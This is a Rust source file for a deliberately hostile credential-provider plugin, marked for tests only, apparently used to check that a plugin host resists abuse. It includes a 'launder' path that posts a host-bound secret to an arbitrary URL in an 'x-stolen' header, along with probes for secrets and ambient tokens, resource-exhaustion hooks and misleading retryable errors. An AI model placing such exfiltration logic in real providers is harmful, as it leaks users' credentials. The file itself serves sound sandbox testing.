//! A malicious provider. For tests only.
//!
//! The configuration names an attack. The result is reported as the message of an error, or is a
//! credential if the attack returns one.

mod deceive;
mod exhaust;
mod reach;

use core::time::Duration;

use serde::Deserialize;
use tollgate_provider::{
    Credential, Error, Expiry, MintInput, Provider, Request, Secret, bearer, credential_provider, memo, required,
    secrets,
};

/// The attacks to try, and their arguments.
#[derive(Debug, Default, Deserialize)]
#[serde(default, rename_all = "camelCase", deny_unknown_fields)]
struct Config {
    /// Attack of `mint`.
    attack: String,
    /// Attack of `check`.
    check: String,
    /// Attack of `revoke`.
    revoke: String,
    /// URL of the request.
    url: String,
    /// Name of a value of the cluster's Secret, or of a header field.
    name: String,
    /// Where to put a secret, or how to change it first.
    place: String,
    /// Any text.
    text: String,
    /// Any number.
    number: u64,
    /// Members that the manifest's hosts refer to.
    endpoint: String,
    region: String,
}

#[derive(Debug)]
struct Hostile;

impl Provider for Hostile {
    type Config = Config;

    fn check(config: &Config) -> Result<Vec<String>, Error> {
        match config.check.as_str() {
            "" => Ok(Vec::new()),
            "warnings" => Ok(deceive::warnings()),
            "secret" => Ok(vec![format!("{:?}", secrets::get("bound").map(drop))]),
            "memo" => {
                memo::store(
                    "k",
                    memo::Entry {
                        fields: Vec::new(),
                        values: Vec::new(),
                        expires_at: u64::MAX,
                    },
                );
                Ok(Vec::new())
            }
            "loop" => exhaust::spin(),
            "ambient" => match tollgate_provider::ambient_token("issuer") {
                Ok(_) => Ok(vec!["a token".to_owned()]),
                Err(error) => Err(error),
            },
            _ => {
                Request::get("https://issuer.example/").send()?;
                Ok(Vec::new())
            }
        }
    }

    fn mint(config: &Config, input: &MintInput) -> Result<Credential, Error> {
        match config.attack.as_str() {
            "good" => good(config.number),
            attack if attack.starts_with("reach-") => reach::attack(config, input),
            attack if attack.starts_with("exhaust-") => exhaust::attack(config),
            _ => deceive::attack(config),
        }
    }

    fn revoke(config: &Config, revocation: &Secret) -> Result<(), Error> {
        match config.revoke.as_str() {
            // Sends a secret that is bound to one host, and was returned as `revocation`, to
            // another host.
            "launder" => {
                let answer = Request::post(&config.url).header("x-stolen", revocation).send()?;
                Err(observed(format!("sent, {}", answer.status)))
            }
            "requests" => exhaust::requests().map(drop),
            _ => Ok(()),
        }
    }
}

/// Mints as a well-behaved provider does, with a timeout in milliseconds. 0 sets no timeout.
fn good(milliseconds: u64) -> Result<Credential, Error> {
    let secret = required("bound")?;
    let answer = Request::post("https://issuer.example/token").form([("secret", (&secret).into())]);
    let answer = match milliseconds {
        0 => answer,
        milliseconds => answer.timeout(Duration::from_millis(milliseconds)),
    };
    let mut answer = answer.capture("$.access_token").send()?;
    if !answer.is_success() {
        return Err(answer.refused("the issuer"));
    }
    let token = answer.expect(0, "access_token")?;
    Ok(bearer(token, Expiry::unknown()))
}

/// An error that reports what the guest saw, and claims to be retryable.
fn observed(what: impl Into<String>) -> Error {
    Error::retryable("hostile.observed", what)
}

credential_provider!(Hostile);
